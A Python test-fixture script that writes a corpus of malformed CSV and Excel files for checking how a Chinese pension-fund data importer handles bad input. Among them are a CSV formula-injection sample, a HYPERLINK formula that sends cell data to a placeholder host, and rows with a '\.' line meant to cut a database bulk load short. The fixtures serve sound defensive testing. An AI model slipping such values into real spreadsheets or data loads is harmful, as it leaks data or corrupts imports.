"""Writes the bad-input corpus (run from the repository root: ``python tests/corpus/make_corpus.py``).

The files are committed; this script says how each was made. ``cases.yml`` says what must happen to each one, through
``manage.py process_facts`` and through the inbox alike (``tests/test_corpus.py``).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).resolve().parent
HEADER = [
    "月度",
    "业务类型",
    "计划类型",
    "计划号",
    "计划名称",
    "组合类型",
    "组合代码",
    "组合名称",
    "客户名称",
    "期初资产规模",
    "期末资产规模",
    "供款",
    "流失（含待遇支付）",
    "流失",
    "待遇支付",
    "投资收益",
    "当期收益率",
    "年化收益率",
    "机构",
    "年金账户号",
    "年金账户名",
    "company_id",
]


def row(n: int, **values) -> list:
    """A clean 规模明细 row on keys the corpus test preloads (plans P0001–P0004, portfolios QTAN0001–QTAN0004)."""
    base = {
        "月度": "202411",
        "业务类型": "企年投资",
        "计划类型": "单一计划",
        "计划号": f"P000{1 + n % 4}",
        "计划名称": f"计划{1 + n % 4}",
        "组合类型": "固定收益型",
        "组合代码": f"QTAN000{1 + n % 4}",
        "组合名称": f"组合{1 + n % 4}",
        "客户名称": "客户甲",
        "期初资产规模": "1000.00",
        "期末资产规模": f"{1100 + n}.00",
        "供款": "100",
        "流失（含待遇支付）": "10",
        "流失": "5",
        "待遇支付": "5",
        "投资收益": "10",
        "当期收益率": "0.01",
        "年化收益率": "0.12",
        "机构": "北京分公司",
        "年金账户号": f"90000000{n}",
        "年金账户名": f"账户{n}",
        "company_id": "612345678",
    }
    base.update(values)
    return [base[c] for c in HEADER]


def csv_bytes(rows: list[list], *, header: list[str] = HEADER, encoding: str = "utf-8", newline: str = "\n") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def write(name: str, data: bytes) -> None:
    (HERE / name).write_bytes(data)


def main() -> None:
    rows = [row(n) for n in range(1, 7)]
    write("规模明细_bom_crlf.csv", b"\xef\xbb\xbf" + csv_bytes(rows, newline="\r\n"))
    write(
        "规模明细_quoted_line_breaks.csv",
        csv_bytes([row(1, 计划名称="第一行\n第二行"), row(2, 客户名称="客户\r\n乙"), row(3)]),
    )
    write(
        "规模明细_gbk_backslash_dot_quoted.csv",
        csv_bytes([row(1, 计划名称="前\n\\.\n后"), row(2, 组合名称="\\."), row(3)], encoding="gbk"),
    )
    write("规模明细_gbk.csv", csv_bytes(rows, encoding="gbk"))
    body = csv_bytes(rows).decode()
    lines = body.splitlines(keepends=True)
    write("规模明细_backslash_dot_line.csv", "".join(lines[:4] + ["\\.\n"] + lines[4:]).encode())
    write("规模明细_header_only.csv", csv_bytes([]))
    write("规模明细_trailing_blank_rows.csv", csv_bytes(rows) + b",,,,\n" + b"," * 21 + b"\n\n")
    write("规模明细_blank_rows_between.csv", "".join(lines[:3] + [",,,\n", "\n"] + lines[3:]).encode())
    write("规模明细_long_key.csv", csv_bytes([row(1), row(2, 计划号="P" * 300), row(3)]))
    without = [c for c in HEADER if c not in {"年化收益率", "当期收益率", "年金账户名"}]
    write(
        "规模明细_missing_optional_columns.csv",
        csv_bytes([[v for c, v in zip(HEADER, r, strict=True) if c in without] for r in rows], header=without),
    )
    write("规模明细_out_of_range.csv", csv_bytes([row(1), row(2, 期末资产规模="1e30"), row(3)]))
    write("规模明细_rate_out_of_range.csv", csv_bytes([row(1), row(2, 当期收益率="123456789012.5")]))
    write("规模明细_bad_month.csv", csv_bytes([row(1), row(2), row(3, 月度="2024年13月")]))
    truncated = csv_bytes(rows)
    write("规模明细_truncated_last_record.csv", truncated[: truncated.rindex(",北京分公司".encode()) + 4])
    write("规模明细_unterminated_quote.csv", csv_bytes(rows[:2]) + '202411,企年投资,单一计划,P0001,"计划'.encode())
    write("规模明细_duplicate_columns.csv", csv_bytes(rows, header=[*HEADER[:-1], "计划号"]))
    write(
        "规模明细_missing_required_column.csv",
        csv_bytes([r[:10] + r[11:] for r in rows], header=HEADER[:10] + HEADER[11:]),
    )
    write(
        "规模明细_formula_names.csv",
        csv_bytes([row(1, 计划号="P9001", 计划名称='=HYPERLINK("http://x.test/"&A1,"x")'), row(2)]),
    )
    write(
        "规模明细_quoted_numbers.csv",
        csv_bytes([row(1, 期末资产规模="1,234,567.89"), row(2, 供款=""), row(3, 当期收益率="1.5%")]),
    )
    write("规模明细_not_a_workbook.xlsx", b"this is a text file with the wrong suffix\n")
    write("规模明细_wrong_extension.pdf", b"%PDF-1.4\n")
    _workbook("规模明细_workbook.xlsx", {"规模明细": rows})


def _workbook(name: str, sheets: dict[str, list[list]]) -> None:
    book = xlsxwriter.Workbook(str(HERE / name))
    for sheet, rows in sheets.items():
        ws = book.add_worksheet(sheet)
        ws.write_row(0, 0, HEADER)
        for r, values in enumerate(rows, start=1):
            ws.write_row(r, 0, values)
    book.close()


if __name__ == "__main__":
    main()
